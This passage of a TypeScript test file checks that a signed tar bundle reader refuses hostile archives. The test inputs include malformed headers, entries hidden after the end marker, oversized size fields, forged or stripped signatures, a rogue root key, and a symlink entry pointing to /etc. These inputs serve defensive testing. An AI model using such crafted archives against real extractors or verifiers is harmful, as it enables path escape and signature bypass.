      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive([
          {
            ...manifestEntry(),
            header: header({ ...manifestFields(), checksum: ustarChecksum(header(manifestFields())) + 1 }),
          },
          ...afterManifest(),
        ]),
      readLimit: () => BLOCK,
    },
    {
      attack: 'a flipped byte in the manifest header name',
      code: 'TAR_INVALID',
      bytes: () => flipBit(3),
      readLimit: () => BLOCK,
    },
    {
      attack: 'a flipped byte in a blob header mtime',
      code: 'TAR_INVALID',
      bytes: () => flipBit(agent().offset + 140),
      readLimit: () => agent().offset + BLOCK,
    },
    {
      attack: 'checksum field that is not octal',
      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive([
          { ...manifestEntry(), header: header({ ...manifestFields(), checksum: Buffer.from('zzzzzz\0 ') }) },
          ...afterManifest(),
        ]),
      readLimit: () => BLOCK,
    },
    {
      attack: 'size field that is not octal',
      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive([
          manifestEntry(),
          ...rootEntries(),
          { ...agent(), header: header({ name: agent().name, rawSize: Buffer.from('00000210560\x39') }) },
          ...blobEntries().slice(1),
        ]),
      readLimit: () => agent().offset + BLOCK,
    },
    {
      attack: 'negative base-256 size',
      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive([
          manifestEntry(),
          ...rootEntries(),
          { ...agent(), header: header({ name: agent().name, rawSize: Buffer.alloc(12, 0xff) }) },
          ...blobEntries().slice(1),
        ]),
      readLimit: () => agent().offset + BLOCK,
    },
    {
      attack: 'GNU magic "ustar  " on the manifest',
      code: 'TAR_INVALID',
      bytes: () => joinArchive([reheader(manifestEntry(), { magic: GNU_MAGIC }), ...afterManifest()]),
      readLimit: () => BLOCK,
    },
    {
      attack: 'GNU magic "ustar  " on a blob',
      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive([
          manifestEntry(),
          ...rootEntries(),
          reheader(agent(), { magic: GNU_MAGIC }),
          ...blobEntries().slice(1),
        ]),
      readLimit: () => agent().offset + BLOCK,
    },
    {
      attack: 'pre-POSIX (v7) header with no magic',
      code: 'TAR_INVALID',
      bytes: () => joinArchive([reheader(manifestEntry(), { magic: Buffer.alloc(8) }), ...afterManifest()]),
      readLimit: () => BLOCK,
    },
    {
      attack: 'ustar magic with version "  "',
      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive([
          reheader(manifestEntry(), { magic: Buffer.from('ustar\0  ', 'latin1') }),
          ...afterManifest(),
        ]),
      readLimit: () => BLOCK,
    },
    {
      attack: 'non-zero byte in the manifest padding',
      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive([{ ...manifestEntry(), padding: nonZeroPadding(manifestEntry()) }, ...afterManifest()]),
      readLimit: () => BLOCK + manifestEntry().body.length + padTo512(manifestEntry().body.length),
    },
    {
      attack: 'non-zero byte in a blob padding',
      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive([
          ...entries.slice(0, 3),
          { ...agent(), padding: nonZeroPadding(agent()) },
          ...blobEntries().slice(1),
        ]),
      readLimit: () => agent().offset + BLOCK + agent().body.length + padTo512(agent().body.length),
    },
    {
      attack: 'garbage after the end-of-archive marker',
      code: 'TAR_INVALID',
      bytes: () => Buffer.concat([bundle, Buffer.from('x')]),
      readLimit: () => bundle.length + 1,
    },
    {
      attack: 'a whole hidden entry after the end-of-archive marker',
      code: 'TAR_INVALID',
      bytes: () => Buffer.concat([bundle, joinArchive([entry({ name: 'extra.txt' }, 'hidden')])]),
      readLimit: () => bundle.length + BLOCK,
    },
    {
      attack: 'a hidden entry after a single zero block',
      code: 'TAR_INVALID',
      bytes: () =>
        joinArchive(
          [...entries],
          Buffer.concat([Buffer.alloc(BLOCK), joinArchive([entry({ name: 'extra.txt' }, 'x')])]),
        ),
      readLimit: () => bundle.length,
    },
    {
      attack: 'more than 1 MiB of zeros after the end-of-archive marker',
      code: 'TAR_INVALID',
      bytes: () => Buffer.concat([bundle, Buffer.alloc(1024 * 1024 + BLOCK)]),
      readLimit: () => bundle.length + 1024 * 1024 + BLOCK,
    },
  ];
  test.each(CORRUPT)('$attack => $code', async ({ code, bytes, readLimit }) => {
    await expectRefused(bytes(), {
      code,
      readLimit: readLimit(),
      chunkings: [0, 1, 7, 511, 513].filter((c) => c !== 1 || readLimit() < 200_000),
    });
  });

  function nonZeroPadding(e: ParsedEntry): Buffer {
    const p = Buffer.alloc(padTo512(e.body.length));
    expect(p.length, `${e.name} has padding to corrupt`).toBeGreaterThan(0);
    p[p.length - 1] = 0x20;
    return p;
  }
});

// ===========================================================================

describe('size limits, decided at the header', () => {
  const manifestHeader = (fields: Partial<HeaderFields>): RawEntry => ({
    ...manifestEntry(),
    header: header({ name: 'manifest.dsse.json', ...fields }),
  });
  const CASES: {
    attack: string;
    code: FerryErrorCode;
    list: () => RawEntry[];
    at: number;
    opts?: () => ReadBundleOptions;
  }[] = [
    {
      attack: 'manifest one byte over opts.maxManifestBytes',
      code: 'MANIFEST_TOO_LARGE',
      list: () => entries,
      at: 0,
      opts: () => ({ maxManifestBytes: manifestEntry().body.length - 1 }),
    },
    {
      attack: 'manifest header declaring 2^45 bytes (base-256)',
      code: 'MANIFEST_TOO_LARGE',
      list: () => [manifestHeader({ size: 2n ** 45n, sizeEncoding: 'base256' }), ...afterManifest()],
      at: 0,
    },
    {
      attack: 'manifest header declaring 8 GiB - 1 (octal)',
      code: 'MANIFEST_TOO_LARGE',
      list: () => [manifestHeader({ size: 8 ** 11 - 1 }), ...afterManifest()],
      at: 0,
    },
    {
      attack: 'manifest header declaring 2^80 bytes (beyond any safe integer)',
      code: 'MANIFEST_TOO_LARGE',
      list: () => [manifestHeader({ size: 2n ** 80n, sizeEncoding: 'base256' }), ...afterManifest()],
      at: 0,
    },
    {
      attack: 'root envelope one byte over opts.maxRootBytes',
      code: 'ENTRY_TOO_LARGE',
      list: () => entries,
      at: 1,
      opts: () => ({ maxRootBytes: rootEntries()[0]!.body.length - 1 }),
    },
    {
      attack: 'root header declaring 2^45 bytes (base-256)',
      code: 'ENTRY_TOO_LARGE',
      list: () => [
        manifestEntry(),
        {
          ...rootEntries()[0]!,
          header: header({ name: 'root/2.root.json', size: 2n ** 45n, sizeEncoding: 'base256' }),
        },
        ...entries.slice(2),
      ],
      at: 1,
    },
    {
      attack: 'more root envelopes than opts.maxRootEntries',
      code: 'ENTRY_TOO_LARGE',
      list: () => entries,
      at: 2,
      opts: () => ({ maxRootEntries: 1 }),
    },
  ];
  test.each(CASES)('$attack => $code', async ({ code, list, at, opts }) => {
    const l = list();
    await expectRefused(joinArchive(l), {
      code,
      readLimit: headerEnd(l, at),
      noSinks: true,
      ...(opts && { opts: opts() }),
    });
  });
});

// ===========================================================================

describe('signatures are checked before any blob reaches a sink', () => {
  const body = () => decodeBase64Strict(parseEnvelope(manifestEntry().body).payload);
  const CASES: { attack: string; code: FerryErrorCode; list: () => RawEntry[] }[] = [
    {
      attack: 'manifest re-signed by an unauthorised key',
      code: 'SIGNATURE_THRESHOLD',
      list: () => [signedManifest(body(), [mallory]), ...afterManifest()],
    },
    {
      attack: 'manifest with every signature stripped',
      code: 'SIGNATURE_THRESHOLD',
      list: () => [signedManifest(body(), []), ...afterManifest()],
    },
    {
      attack: 'payload altered under the original signature',
      code: 'SIGNATURE_THRESHOLD',
      list: () => {
        const env = parseEnvelope(manifestEntry().body);
        const evil = { ...manifestPayload(), sites: ['*'] };
        const forged: Envelope = { ...env, payload: Buffer.from(JSON.stringify(evil)).toString('base64') };
        return [entry({ name: 'manifest.dsse.json' }, serializeEnvelope(forged)), ...afterManifest()];
      },
    },
    {
      attack: 'a rogue root v2, signed only by the intruder, authorising the intruder',
      code: 'ROOT_SIGNATURE',
      list: () => {
        const rogue = makeRootEnvelope({ version: 2, rootKeys: [mallory], bundleKeys: [mallory] });
        return [
          signedManifest(body(), [mallory]),
          entry({ name: 'root/2.root.json' }, serializeEnvelope(rogue)),
          ...blobEntries(),
        ];
      },
    },
  ];
  test.each(CASES)('$attack => $code, openBlob never called', async ({ code, list }) => {
    const l = list();
    await expectRefused(joinArchive(l), {
      code,
      noSinks: true,
      readLimit: headerEnd(l, l.length - blobEntries().length),
    });
  });
});

// ===========================================================================

describe('resources', () => {
  test('a refused bundle releases its source (closes the iterator, and with it the file)', async () => {
    let closed = false;
    const hostile = joinArchive([
      manifestEntry(),
      entry({ name: agent().name, typeflag: '2', linkname: '/etc' }),
      ...afterManifest(),
    ]);
    async function* source(): AsyncGenerator<Buffer> {
      try {
        yield* chunks(hostile, 4096);
      } finally {
        closed = true;
      }
    }
    expect(await outcome(readBundle(source(), TRUST()))).toMatchObject({ code: 'ENTRY_TYPE_FORBIDDEN' });
    expect(closed, 'source iterator return() called').toBe(true);
  });
});
